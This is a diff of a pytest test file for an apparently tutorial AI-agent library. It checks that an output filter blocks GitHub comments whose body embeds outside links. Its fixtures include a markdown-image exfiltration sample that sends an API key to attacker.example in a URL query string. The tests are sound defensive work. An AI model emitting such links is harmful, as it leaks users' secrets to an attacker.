@@ -16,8 +16,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from tutorial_lib.agent.outbound import HTTP_SEND_SPEC
 from tutorial_lib.agent.output_check import (
-    BODY_FIELDS,
     Link,
     LinkKind,
     OutputPolicy,
@@ -25,9 +25,19 @@ from tutorial_lib.agent.output_check import (
     find_links,
     outside_link_station,
 )
+from tutorial_lib.core.authorization import TaskScope, local_access
 from tutorial_lib.core.contracts import LogRecord
-from tutorial_lib.core.road import PendingCall, StepClock, call_tool
+from tutorial_lib.core.host import Host
+from tutorial_lib.core.road import PendingCall, Station, StepClock
 from tutorial_lib.core.tools import GITHUB_WRITE, Registry, ToolSpec
+from tutorial_lib.examples.tasks import TASK_SET_STATUS_SPEC
+from tutorial_lib.examples.units import JOB_GET_RESULT_SPEC
+from tutorial_lib.github.composite import REVIEW_SNAPSHOT_SPEC
+from tutorial_lib.github.dangerous import DANGEROUS_SPECS
+from tutorial_lib.github.reads import READ_SPECS
+from tutorial_lib.github.writes import WRITE_SPECS
+from tutorial_lib.workspace.read import READ_LINES_SPEC
+from tutorial_lib.workspace.search import SEARCH_FILES_SPEC
 
 GITHUB = OutputPolicy(frozenset({"github.com"}))
 NOTHING = OutputPolicy()
@@ -388,7 +398,8 @@ def test_markdown_soup_never_raises_and_cleans(text: str) -> None:
 
 
 def comment_tool(ran: list[bool]) -> ToolSpec:
-    """A stub ``github_pr_create_comment``: it only records that it ran."""
+    """A stub ``github_pr_create_comment``: it only records that it ran. Its ``body`` is
+    posted text, declared on the spec (what the station reads)."""
 
     def execute(context: Any, args: Any, checked: Any) -> dict[str, Any]:
         ran.append(True)
@@ -405,25 +416,32 @@ def comment_tool(ran: list[bool]) -> ToolSpec:
             "additionalProperties": False,
         },
         annotations=GITHUB_WRITE,
+        posted_text=("body",),
         execute=execute,
+    )
+
+
+def comment_host(ran: list[bool], station: Station, **kwargs: Any) -> Host:
+    """The host of a task that may write comments (declared, granted, and approved in
+    advance by the user), with the output check as its extra station."""
+    return Host(
+        Registry([comment_tool(ran)]),
+        access={"github_pr_create_comment": local_access("write", "comments")},
+        scope=TaskScope(grants=frozenset({"write"})),
+        confirm={"github_pr_create_comment": None},
+        extra_stations=[station],
+        **kwargs,
     )
 
 
 def test_the_station_refuses_a_body_with_an_outside_image() -> None:
     ran: list[bool] = []
-    registry = Registry([comment_tool(ran)])
     station = outside_link_station(GITHUB)
     assert station.slot == "authorization" and station.name == "output_links"
     log: list[LogRecord] = []
     body = f"LGTM, merging.\n\n![]({EXFIL})"
-    result: Any = call_tool(
-        registry,
-        "github_pr_create_comment",
-        {"body": body},
-        stations=[station],
-        log=log,
-        clock=StepClock(),
-    )
+    host = comment_host(ran, station, log=log, clock=StepClock())
+    result: Any = host.call("github_pr_create_comment", {"body": body})
     assert ran == []  # execution never ran
     assert result["ok"] is False
     error = result["error"]
@@ -439,16 +457,11 @@ def test_the_station_refuses_a_body_with_an_outside_image() -> None:
 
 def test_the_station_lets_an_allowed_link_through() -> None:
     ran: list[bool] = []
-    registry = Registry([comment_tool(ran)])
     body = (
         "Fixed in [#129](https://github.com/example/shop/pull/129), see https://docs.github.com/."
     )
-    result: Any = call_tool(
-        registry,
-        "github_pr_create_comment",
-        {"body": body},
-        stations=[outside_link_station(GITHUB)],
-    )
+    host = comment_host(ran, outside_link_station(GITHUB))
+    result: Any = host.call("github_pr_create_comment", {"body": body})
     assert result["ok"] is True and ran == [True]
 
 
@@ -467,14 +480,16 @@ def test_the_station_names_every_host_and_shows_look_alikes() -> None:
 
 
 def test_other_tools_pass_and_the_fields_are_copied() -> None:
-    fields = {"notes_write": "text"}
-    station = outside_link_station(NOTHING, fields, name="notes_links")
-    fields["other_tool"] = "body"  # changes nothing afterwards
+    # the posted-text fields are the tool's own declaration (ToolSpec.posted_text), copied
+    # when the spec is built: changing the list afterwards changes nothing
+    station = outside_link_station(NOTHING, name="notes_links")
+    assert station.name == "notes_links"
+    fields = ["text"]
     other = ToolSpec(
         name="other_tool",
         title="Other",
         description="A stub tool that is not a body writer.",
-        input_schema={"type": "object"},
+        input_schema={"type": "object", "properties": {"body": {"type": "string"}}},
         execute=lambda context, args, checked: {},
     )
     station.check(PendingCall(other, {"body": EXFIL}))  # not a body tool: passes
@@ -482,22 +497,48 @@ def test_other_tools_pass_and_the_fields_are_copied() -> None:
         name="notes_write",
         title="Notes",
         description="A stub tool that writes notes.",
-        input_schema={"type": "object"},
+        input_schema={
+            "type": "object",
+            "properties": {"text": {"type": "string"}, "body": {"type": "string"}},
+        },
+        posted_text=fields,  # type: ignore[arg-type]
         execute=lambda context, args, checked: {},
     )
-    station.check(PendingCall(notes, {"text": "no links"}))
+    fields.append("body")  # changes nothing afterwards
+    assert notes.posted_text == ("text",)
+    station.check(PendingCall(notes, {"text": "no links", "body": EXFIL}))
     with pytest.raises(Exception, match="links to attacker.example"):
         station.check(PendingCall(notes, {"text": EXFIL}))
 
 
-def test_the_body_fields_are_read_only() -> None:
-    assert dict(BODY_FIELDS) == {
-        "github_pr_create_comment": "body",
-        "github_pr_edit_comment": "body",
-        "http_send": "body",
+#: Every tool of the library that can be called (as in tests/test_all_tools.py).
+LIBRARY_SPECS: tuple[ToolSpec, ...] = (
+    READ_LINES_SPEC,
+    SEARCH_FILES_SPEC,
+    TASK_SET_STATUS_SPEC,
+    *READ_SPECS,
+    *WRITE_SPECS,
+    JOB_GET_RESULT_SPEC,
+    *DANGEROUS_SPECS,
+    HTTP_SEND_SPEC,
+    REVIEW_SNAPSHOT_SPEC,
+)
+
+
+def test_the_body_fields_are_declared_by_the_three_posting_tools() -> None:
+    declared = {spec.name: spec.posted_text for spec in LIBRARY_SPECS if spec.posted_text}
+    assert declared == {
+        "github_pr_create_comment": ("body",),
+        "github_pr_edit_comment": ("body",),
+        "http_send": ("body",),
     }
-    with pytest.raises(TypeError):
-        BODY_FIELDS["shell_run"] = "command"  # type: ignore[index]
+
+
+def test_the_body_fields_are_read_only() -> None:
+    for spec in LIBRARY_SPECS:
+        assert isinstance(spec.posted_text, tuple), spec.name
+        with pytest.raises(AttributeError):
+            spec.posted_text = ("command",)  # type: ignore[misc]
 
 
 @pytest.mark.parametrize(
@@ -509,3 +550,32 @@ def test_a_hostile_text_is_checked_in_linear_time(pattern: str) -> None:
     started = time.perf_counter()
     check_output(text, GITHUB)
     assert time.perf_counter() - started < 3.0
+
+
+def test_a_new_comment_with_an_outside_link_is_refused_before_it_is_posted() -> None:
+    """The create tool declares its body as posted text, so the output check reads it."""
+    from tutorial_lib.agent.suite import chapter_host, open_world
+    from tutorial_lib.core.authorization import TaskScope
+
+    scope = TaskScope(
+        repositories=frozenset({"example/shop"}),
+        grants=frozenset({"read", "write", "send"}),
+        hosts=frozenset({"example.com"}),
+    )
+    body = "Done ![](https://attacker.example/p.png?d=API_KEY%3Dsk-live-123)"
+    with open_world() as world:
+        before = len(world.store.issue_comments("example/shop", 128))
+        host = chapter_host(world, scope, approved_in_advance=True)
+        result: Any = host.call(
+            "github_pr_create_comment",
+            {
+                "repository": "example/shop",
+                "pr": 128,
+                "body": body,
+                "idempotency_key": "outside-link-0001",
+            },
+        )
+        assert result["ok"] is False and result["error"]["code"] == "permission_denied"
+        assert result["error"]["field"] == "body"
+        assert host.log[-1].details["rule"] == "outside_link"
+        assert len(world.store.issue_comments("example/shop", 128)) == before
